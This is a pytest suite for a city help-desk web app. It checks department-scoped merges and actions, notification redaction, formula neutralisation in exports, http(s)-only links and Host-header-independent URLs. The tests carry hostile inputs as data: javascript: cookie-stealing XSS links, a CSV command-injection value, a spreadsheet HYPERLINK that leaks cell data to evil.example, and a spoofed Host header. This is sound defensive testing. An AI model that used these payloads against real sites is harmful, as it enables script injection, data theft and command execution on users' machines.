"""Scope and output safety, through the real forms and pages.

- Merging across departments: only operators (and admins) merge; the merged tickets
  follow the root's department, also when the root is re-routed or returned to triage.
- A head never acts on an outbox row posting into another department's thread.
- A notice about a ticket that moved away shows neither its subject nor a link.
- Spreadsheets never carry a live formula (growth.xlsx, the queue's CSV).
- Only http(s) links are stored and rendered (accounts, crosspost and reply permalinks).
- Absolute URLs come from DESK_PUBLIC_URL, never from the request's Host header.
"""
from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest

from desk.accounts_import import import_rows
from desk.extensions import db
from desk.models import Account, Role, TicketEvent
from desk.models.announcements import Announcement, AnnouncementDelivery
from desk.models.notifications import Notification
from desk.models.replies import Reply, ReplyDelivery
from workers import crosspost as crosspost_job

from .conftest import csrf_from
from .fakes.max import FakeMax
from .registry_support import snap
from .ticket_helpers import english, fresh, log_out, post_action, routed

PUBLIC = "https://desk.belogorsk.example"
EVIL = 'javascript:alert(document.cookie)'
# Passes WTForms' URL(): a scheme, "//" and a valid host; the browser runs the line after the comment.
EVIL_WITH_HOST = "javascript://belogorsk.example/%0Aalert(document.cookie)"


@pytest.fixture
def org(make):
    roads, schools = make.department("Дороги"), make.department("Школы")
    return {"roads": roads, "schools": schools,
            "roads_head": make.user(Role.DEPARTMENT_HEAD, department=roads),
            "schools_head": make.user(Role.DEPARTMENT_HEAD, department=schools),
            "operator": make.user(Role.OPERATOR)}


def post(client, url: str, data: dict, page: str):
    token = csrf_from(client.get(page).get_data(as_text=True))
    return client.post(url, data={"csrf_token": token, **data})


def department_events(ticket) -> list[tuple[str | None, str | None]]:
    return [(e.old_value, e.new_value) for e in db.session.scalars(
        db.select(TicketEvent).where(TicketEvent.ticket_id == ticket.id, TicketEvent.field == "department_id")
        .order_by(TicketEvent.id))]


# --- merging across departments ------------------------------------------------------------------

def test_a_merged_ticket_joins_the_roots_department(make, login_as, client, org):
    root = routed(make, org["roads"], org["operator"], text="Яма на Партизанской")
    source = routed(make, org["schools"], org["operator"], text="Яма у школы №3")
    login_as(org["operator"])
    english(client)
    response = post_action(client, source.id, "merge", {"target_id": root.id})
    assert f"merged into #{root.id}" in response.get_data(as_text=True)
    source = fresh(source)
    assert source.status == "merged" and source.department_id == org["roads"].id
    assert department_events(source)[-1] == ("Школы", "Дороги")  # the move is in the audit log
    log_out(client)

    login_as(org["schools_head"])
    assert client.get(f"/tickets/{source.id}").status_code == 404
    log_out(client)
    login_as(org["roads_head"])
    assert client.get(f"/tickets/{source.id}").status_code == 200


def test_merged_threads_follow_the_root_when_it_moves_or_goes_back_to_triage(make, login_as, client, org):
    root = routed(make, org["roads"], org["operator"])
    source = routed(make, org["roads"], org["operator"])
    login_as(org["operator"])
    post_action(client, source.id, "merge", {"target_id": root.id})
    post_action(client, root.id, "department", {"department_id": org["schools"].id})
    assert fresh(source).department_id == org["schools"].id
    log_out(client)

    login_as(org["schools_head"])
    post_action(client, root.id, "return", {"reason": "Это не школы"})
    assert fresh(root).department_id is None and fresh(source).department_id is None
    assert client.get(f"/tickets/{source.id}").status_code == 404


def test_department_heads_do_not_merge(make, login_as, client, org):
    root = routed(make, org["roads"], org["operator"])
    own = routed(make, org["roads"], org["operator"])
    login_as(org["roads_head"])
    assert post_action(client, own.id, "merge", {"target_id": root.id}, follow=False).status_code == 403
    assert fresh(own).status == "triaged" and fresh(own).merged_into_id is None


# --- outbox rows -----------------------------------------------------------------------------------

@pytest.fixture
def foreign_thread_delivery(make, org):
    """A reply of the roads incident with a row posting into a thread still filed under
    schools (merged before the merge rule existed), and one into the root's own thread."""
    account = make.account("vk", settings={"group_id": 42})
    root = routed(make, org["roads"], org["operator"], acc=account)
    child = routed(make, org["schools"], org["operator"], acc=account)
    child.status, child.merged_into_id = "merged", root.id
    reply = Reply(ticket_id=root.id, author_id=org["operator"].id, text="Починим", state="approved")
    rows = [ReplyDelivery(reply=reply, ticket_id=t.id, account_id=account.id, platform="vk", thread_ref="-42_5",
                          target_external_id="-42_7", outbox_key=f"k{t.id}", text="Починим", state="failed",
                          last_error="flood control")
            for t in (child, root)]
    db.session.add_all([reply, *rows])
    db.session.commit()
    return root, rows[0], rows[1]


@pytest.mark.parametrize("action, data", [("resend", {"text": "Починим завтра"}), ("cancel", {})])
def test_a_head_cannot_act_on_a_row_posting_into_another_departments_thread(
        make, login_as, client, org, foreign_thread_delivery, action, data):
    root, foreign, own = foreign_thread_delivery
    login_as(org["roads_head"])
    card = f"/tickets/{root.id}"
    assert post(client, f"/replies/deliveries/{foreign.id}/{action}", data, card).status_code == 404
    db.session.refresh(foreign)
    assert foreign.state == "failed" and foreign.text == "Починим"
    # The row into the root's own thread is theirs to handle.
    assert post(client, f"/replies/deliveries/{own.id}/cancel", {}, card).status_code == 302
    db.session.refresh(own)
    assert own.state == "cancelled"


# --- notifications -----------------------------------------------------------------------------------

def test_a_notice_about_a_ticket_that_moved_away_shows_no_subject_and_no_link(make, login_as, client, org):
    ticket = routed(make, org["roads"], org["operator"], text="Яма на Партизанской, 15")
    kept = routed(make, org["roads"], org["operator"], text="Нет света на Ленина")
    for t in (ticket, kept):
        db.session.add(Notification(user_id=org["roads_head"].id, ticket_id=t.id, kind="reaction_warning", level=1,
                                    text=f"Обращение #{t.id} «{t.subject}»: скоро срок реакции"))
    db.session.commit()
    login_as(org["operator"])
    post_action(client, ticket.id, "department", {"department_id": org["schools"].id})
    log_out(client)

    login_as(org["roads_head"])
    html = client.get("/notifications/").get_data(as_text=True)
    assert "Партизанской" not in html and f'href="/tickets/{ticket.id}"' not in html
    assert "передано в другое подразделение" in html
    assert "Нет света на Ленина" in html and f'href="/tickets/{kept.id}"' in html


# --- spreadsheets ------------------------------------------------------------------------------------

def test_growth_xlsx_carries_no_live_formula(make, login_as, client):
    account = make.account("vk", "housing", '=HYPERLINK("http://evil.example/?"&A1,"Открыть")')
    snap(account, {6: 100, 0: 120})
    login_as(make.user(Role.MANAGER))
    response = client.get("/registry/growth.xlsx?days=7")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    names = [c.value for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert names and all(n.startswith("'=") for n in names)


def test_queue_csv_neutralises_formulas_and_links_to_the_public_desk(app, make, login_as, client, org):
    app.config["DESK_PUBLIC_URL"] = PUBLIC + "/"
    ticket = make.ticket(text="=cmd|' /C calc'!A0", author_name="@admin")
    login_as(org["operator"])
    response = client.get("/reports/queue.csv")  # asked of http://localhost/
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    row = next(r for r in rows[1:] if r[0] == str(ticket.id))
    assert row[8].startswith("'=") and row[9] == "'@admin"
    assert row[-1] == f"{PUBLIC}/tickets/{ticket.id}"


# --- http(s) links only --------------------------------------------------------------------------------

def test_the_admin_form_refuses_a_javascript_link(make, login_as, client):
    login_as(make.user(Role.ADMIN))
    for link, status in ((EVIL, 422), (EVIL_WITH_HOST, 422), ("https://vk.com/belogorsk", 302)):
        response = post(client, "/admin/accounts/new/vk", {"name": f"Школа {status}{len(link)}", "link": link,
                                                            "direction": "education", "department": 0,
                                                            "is_active": "y"}, "/admin/accounts/new/vk")
        assert response.status_code == status, link
    assert db.session.scalars(db.select(Account.link)).all() == ["https://vk.com/belogorsk"]


def test_the_accounts_import_refuses_a_javascript_link_and_keeps_the_good_rows(app):
    results = import_rows([
        (1, {"platform": "vk", "name": "Школа", "direction": "education", "link": EVIL, "vk": {"group_id": 1}}),
        (2, {"platform": "vk", "name": "Музей", "direction": "culture", "link": "https://vk.com/museum",
             "vk": {"group_id": 2}}),
    ])
    db.session.commit()
    assert [(r.status, r.field) for r in results] == [("error", "link"), ("created", "")]
    assert db.session.scalars(db.select(Account.link)).all() == ["https://vk.com/museum"]


def test_old_javascript_links_are_never_rendered_as_links(make, login_as, client, org, foreign_thread_delivery):
    hostile = make.account("telegram", "housing", "Старая запись")
    hostile.link = EVIL
    root, foreign, own = foreign_thread_delivery
    own.state, own.permalink = "sent", EVIL
    db.session.commit()
    snap(hostile, {0: 10})
    for page in ("/accounts", "/accounts/widget", "/accounts/qr-sheet?direction=housing"):
        html = client.get(page).get_data(as_text=True)
        assert "Старая запись" in html or page != "/accounts"
        assert "javascript:" not in html, page
    assert client.get(f"/accounts/{hostile.id}/qr.svg").status_code == 404
    login_as(org["operator"])
    assert "javascript:" not in client.get(f"/tickets/{root.id}").get_data(as_text=True)


def test_a_crosspost_permalink_from_the_network_is_kept_only_if_http(app, make):
    fake = FakeMax("max-bot-token", seed=3, channel_id=-7100).start()
    try:
        app.config.update(MAX_API_BASE=fake.url, MAX_HTTP_TIMEOUT=10.0, CROSSPOST_BACKOFF_BASE=0.0)
        account = make.account("max", "housing", "ЖКХ в MAX", settings={"chat_id": -7100},
                               credentials={"bot_token": "max-bot-token"})
        ids = []
        for url in (EVIL, "https://max.ru/city/77"):
            announcement = Announcement(text="Отключение воды", author_id=make.user(Role.MANAGER).id)
            delivery = AnnouncementDelivery(announcement=announcement, account_id=account.id, platform="max",
                                            outbox_key=f"k-{len(ids)}")
            db.session.add_all([announcement, delivery])
            db.session.commit()
            fake.sent_message_url = url
            assert crosspost_job.post_announcement_delivery(delivery.id) == "sent"
            ids.append(delivery.id)
    finally:
        fake.stop()
    db.session.expire_all()
    assert [db.session.get(AnnouncementDelivery, i).permalink for i in ids] == ["", "https://max.ru/city/77"]


# --- absolute URLs ---------------------------------------------------------------------------------

def test_the_widget_links_to_the_public_desk_whatever_the_host_header(app, client, make):
    app.config["DESK_PUBLIC_URL"] = PUBLIC
    make.account("vk", "housing", "Водоканал")
    html = client.get("/accounts/widget", headers={"Host": "evil.example"}).get_data(as_text=True)
    title = re.search(r'class="widget-title"><a href="([^"]+)"', html).group(1)
    assert title == f"{PUBLIC}/accounts" and "evil.example" not in html
